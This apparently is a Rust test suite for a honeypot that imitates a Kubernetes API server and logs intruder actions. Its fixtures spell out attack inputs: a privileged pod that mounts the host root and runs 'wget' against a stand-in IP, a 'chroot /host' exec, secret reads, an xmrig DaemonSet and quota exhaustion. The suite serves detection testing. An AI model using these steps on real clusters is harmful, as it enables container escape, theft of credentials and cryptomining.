//! What kubectl and intruders ask, without the network.

use super::{
    SERVICE,
    api::{self, Deed},
    call::{self, Call, Rights, Who},
    release::Release,
    reply::{Body, Reply},
    seeded,
    store::Store,
};
use netsvc_daemon::http::request::Request;
use netsvc_kit::{
    Action, Host, Out,
    testing::{host, persona_with, stage},
};
use netsvc_wire::{Kind, field};
use serde_json::{Value, json};
use std::sync::Arc;

struct Cluster {
    host: Arc<Host>,
    store: Store,
    out: Out,
    _folder: tempfile::TempDir,
}

impl Cluster {
    fn new() -> Cluster {
        let folder = tempfile::tempdir().unwrap();
        let stage = stage(folder.path());
        let host = host(&stage, persona_with(&SERVICE, "k8s-01"), SERVICE.slug, &[]);
        let store = seeded::store(&host, Release::of(&host));
        Cluster { host, store, out: Out::default(), _folder: folder }
    }

    fn deed(&mut self, rights: Rights, head: &str, body: &Value) -> Deed {
        let mut request = Request::read(format!("{head}\r\n\r\n").as_bytes());
        if !body.is_null() {
            request.body = body.to_string().into_bytes();
        }
        let who = Who { name: "system:anonymous".to_owned(), rights };
        let mut call = Call {
            host: &self.host,
            store: &mut self.store,
            release: Release::of(&self.host),
            request: &request,
            who: &who,
            query: call::query(&request),
            now: self.host.clock(),
            out: &mut self.out,
        };
        api::answer(&mut call)
    }

    fn ask(&mut self, rights: Rights, line: &str, body: &Value) -> (u16, Value) {
        match self.deed(rights, &format!("{line} HTTP/1.1\r\nHost: h"), body) {
            Deed::Reply(Reply { status, body: Body::Json(value) }) => (status, value),
            Deed::Reply(Reply { status, body: Body::Text(text) | Body::Packed(text) }) => {
                (status, json!(text))
            }
            Deed::Exec(target) => (101, json!(target.words)),
            Deed::Watch(lines) => (200, json!(lines)),
        }
    }

    fn told(&mut self, wanted: Kind) -> Vec<String> {
        let told = self.out.take().into_iter().filter_map(|action| match action {
            Action::Record(kind, fields) | Action::Capture(kind, fields, _) if kind == wanted => {
                let names = [field::TECHNIQUE, field::PATH, field::COMMAND];
                let value = names.iter().find_map(|name| fields.iter().find(|(known, _)| known == name))?;
                Some(String::from_utf8_lossy(&value.1).into_owned())
            }
            _ => None,
        });
        told.collect()
    }
}

#[test]
fn who_may_nothing_is_told_so_in_the_words_of_the_server() {
    let mut cluster = Cluster::new();
    let (status, value) = cluster.ask(Rights::Nothing, "GET /", &Value::Null);
    assert_eq!(
        (status, value["message"].as_str().unwrap()),
        (403, "forbidden: User \"system:anonymous\" cannot get path \"/\"")
    );
    let (_, value) = cluster.ask(Rights::Nothing, "GET /api/v1/namespaces/default/pods", &Value::Null);
    assert_eq!(
        value["message"],
        "pods is forbidden: User \"system:anonymous\" cannot list resource \"pods\" in API group \"\" in the \
            namespace \"default\""
    );
    assert_eq!(value["details"], json!({ "kind": "pods" }));
    assert_eq!(cluster.ask(Rights::Nothing, "GET /version", &Value::Null).0, 200);
    assert_eq!(
        cluster.ask(Rights::Looking, "GET /api/v1/secrets", &Value::Null).0,
        403,
        "who looks sees no secrets"
    );
    assert_eq!(cluster.ask(Rights::Looking, "GET /api/v1/pods", &Value::Null).0, 200);
}

#[test]
fn everything_that_is_listed_can_be_listed() {
    let mut cluster = Cluster::new();
    for root in ["api/v1", "apis/apps/v1", "apis/batch/v1", "apis/rbac.authorization.k8s.io/v1"] {
        let (status, value) = cluster.ask(Rights::Everything, &format!("GET /{root}"), &Value::Null);
        assert_eq!(status, 200, "{root}");
        for resource in value["resources"].as_array().unwrap() {
            let name = resource["name"].as_str().unwrap();
            if name.contains('/') {
                continue;
            }
            let (status, list) =
                cluster.ask(Rights::Everything, &format!("GET /{root}/{name}"), &Value::Null);
            assert_eq!(
                (status, list["kind"].as_str().unwrap().to_owned()),
                (200, format!("{}List", resource["kind"].as_str().unwrap()))
            );
        }
    }
    let (_, pods) = cluster.ask(Rights::Everything, "GET /api/v1/pods", &Value::Null);
    assert!(12 < pods["items"].as_array().unwrap().len());
    let table = cluster.deed(
        Rights::Everything,
        "GET /api/v1/namespaces/kube-system/pods HTTP/1.1\r\nHost: h\r\nAccept: \
            application/json;as=Table;v=v1;g=meta.k8s.io",
        &Value::Null,
    );
    let Deed::Reply(Reply { body: Body::Json(table), .. }) = table else { panic!() };
    assert_eq!(table["kind"], "Table");
    assert_eq!(table["rows"][0]["cells"][1], "1/1");
}

#[test]
fn a_pod_with_the_host_in_it_is_made_entered_and_thrown_away() {
    let mut cluster = Cluster::new();
    let pod = json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": { "name": "escape" },
        "spec": {
            "hostPID": true,
            "containers": [{
                "name": "a", "image": "alpine", "command": ["sh", "-c", "wget http://192.0.2.9/x"],
                "securityContext": { "privileged": true }, "volumeMounts": [{ "name": "h", "mountPath": "/host" }],
            }],
            "volumes": [{ "name": "h", "hostPath": { "path": "/" } }],
        },
    });
    let line = "POST /api/v1/namespaces/default/pods";
    let (status, made) = cluster.ask(Rights::Everything, line, &pod);
    assert_eq!((status, made["status"]["phase"].as_str()), (201, Some("Running")));
    assert_eq!(cluster.ask(Rights::Everything, line, &pod).1["reason"], "AlreadyExists");
    let told = cluster.told(Kind::ExploitAttempt);
    assert_eq!(told, ["kubernetes pod with hostPath", "kubernetes privileged pod"]);
    let exec = "GET /api/v1/namespaces/default/pods/escape/exec?command=chroot&command=/host&command=id";
    assert_eq!(cluster.ask(Rights::Everything, exec, &Value::Null).0, 400, "an upgrade is needed");
    let deed = cluster.deed(
        Rights::Everything,
        &format!("{exec} HTTP/1.1\r\nHost: h\r\nUpgrade: websocket"),
        &Value::Null,
    );
    assert!(matches!(deed, Deed::Exec(target) if target.words == ["chroot", "/host", "id"]));
    assert!(cluster.told(Kind::ExploitAttempt).contains(&"kubernetes exec into a pod".to_owned()));
    assert_eq!(
        cluster.ask(Rights::Everything, "DELETE /api/v1/namespaces/default/pods/escape", &Value::Null).0,
        200
    );
    assert_eq!(
        cluster.ask(Rights::Everything, "GET /api/v1/namespaces/default/pods/escape", &Value::Null).0,
        404
    );
}

#[test]
fn secrets_are_read_and_that_is_known() {
    let mut cluster = Cluster::new();
    let (_, list) = cluster.ask(Rights::Everything, "GET /api/v1/secrets", &Value::Null);
    assert!(
        list["items"].as_array().unwrap().iter().any(|secret| secret["metadata"]["name"] == "db-credentials")
    );
    assert_eq!(cluster.told(Kind::FileRead), ["secrets"]);
}

#[test]
fn a_controller_makes_a_pod_and_the_quota_ends() {
    let mut cluster = Cluster::new();
    let set = json!({
        "metadata": { "name": "miner" }, "kind": "DaemonSet",
        "spec": { "template": { "metadata": { "labels": { "app": "m" } }, "spec": { "containers": [{ "nam\
            e": "m", "image": "x/xmrig" }] } } },
    });
    assert_eq!(
        cluster.ask(Rights::Everything, "POST /apis/apps/v1/namespaces/default/daemonsets", &set).0,
        201
    );
    let (_, pods) = cluster.ask(
        Rights::Everything,
        "GET /api/v1/namespaces/default/pods?labelSelector=app%3Dm",
        &Value::Null,
    );
    assert_eq!(pods["items"].as_array().unwrap().len(), 1);
    let told = cluster.told(Kind::ExploitAttempt);
    assert!(told.contains(&"kubernetes miner".to_owned()), "{told:?}");
    let mut last = 201;
    for number in 0..2000 {
        let map = json!({ "metadata": { "name": format!("m{number}") }, "data": { "a": "b".repeat(400) } });
        last = cluster.ask(Rights::Everything, "POST /api/v1/namespaces/default/configmaps", &map).0;
        cluster.out.take();
    }
    assert_eq!(last, 403);
}
